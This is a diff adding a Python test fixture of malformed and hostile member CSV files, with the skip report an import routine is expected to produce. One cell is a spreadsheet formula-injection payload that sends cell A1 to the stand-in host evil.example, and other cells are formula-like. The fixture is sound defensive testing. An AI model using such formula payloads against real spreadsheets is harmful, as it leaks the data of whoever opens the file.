@@ -1,0 +1,62 @@
+"""Member CSV files for import tests: a hostile one, with the report it must give."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+LONG = "x" * 10_000
+
+
+def _row(*cells: str) -> bytes:
+    out = io.StringIO()
+    csv.writer(out, lineterminator="").writerow(cells)
+    return out.getvalue().encode()
+
+
+HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+# One row per line unless noted; the comment says what the import must do with it.
+# Line 4 is added, with formula-like name, last name and workplace kept as written.
+HOSTILE_LINES: list[bytes] = [
+    b"\xef\xbb\xbfEmail,First name,Last name,Language,Postal code,Local,Workplace",  # 1 header
+    "ana@example.org,Ana,Roy,fr,h2x1y4,Local 1004,Hôpital Notre-Dame".encode(),  # 2 added
+    b"",  # 3 blank line
+    _row("mal@example.org", HOSTILE_FORMULA, "+1-800-EVIL", "en", "", "Local 1004", "@SUM(1+1)"),
+    b"BOB@Example.ORG,Bob,Tremblay,EN,T2P 1J9,Local 30,",  # 5 added (lower-cased)
+    b"bob@example.org,Robert,Tremblay,en,,,",  # 6 duplicate of line 5
+    b"chlo\xe9@example.org,Chlo\xe9,Martin,fr,,,",  # 7 not valid UTF-8 (Latin-1 bytes)
+    b"zoe@example.org,Zo\xe9,Martin,fr,,,",  # 8 not valid UTF-8
+    f"long@example.org,{LONG},Smith,en,,,".encode(),  # 9 field longer than 1000
+    f"wide@example.org,{'y' * 300},Smith,en,,,".encode(),  # 10 first name longer than 200
+    b"not-an-email,Nadia,Ali,en,,,",  # 11 invalid email
+    b",Nobody,Here,en,,,",  # 12 missing email
+    b",,,,,,",  # 13 a row of empty cells: ignored like a blank line
+    b'dee@example.org,Dee,"O\'Neil",en,,Local 30,"Warehouse\nDock 4"',  # 14-15 added
+    b"Ana@EXAMPLE.org,Anna,,,,,",  # 16 duplicate of line 2
+    b"sam@example.org,Sam,Lee,es,,,",  # 17 unknown language
+    b"",  # 18 blank
+    b"",  # 19 blank
+]
+HOSTILE_CSV = b"\r\n".join(HOSTILE_LINES) + b"\r\n"
+
+HOSTILE_ADDED = {"ana@example.org", "mal@example.org", "bob@example.org", "dee@example.org"}
+HOSTILE_SKIPS = [
+    (6, "duplicate of line 5"),
+    (7, "not valid UTF-8"),
+    (8, "not valid UTF-8"),
+    (9, "field 'First name' is longer than 1000 characters"),
+    (10, "first name is longer than 200 characters"),
+    (11, "invalid email address"),
+    (12, "missing email"),
+    (16, "duplicate of line 2"),
+    (17, "unknown language 'es' (use en or fr)"),
+]
+
+NO_EMAIL_COLUMN = b"Name,Phone\r\nAna Roy,555-0100\r\n"
+NOT_CSV = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)) * 8
+UTF16 = "email,first_name\r\nana@example.org,Ana\r\n".encode("utf-16")
+
+
+def csv_bytes(*rows: str, header: str = "email,first_name,last_name,language,local") -> bytes:
+    return ("\r\n".join([header, *rows]) + "\r\n").encode()
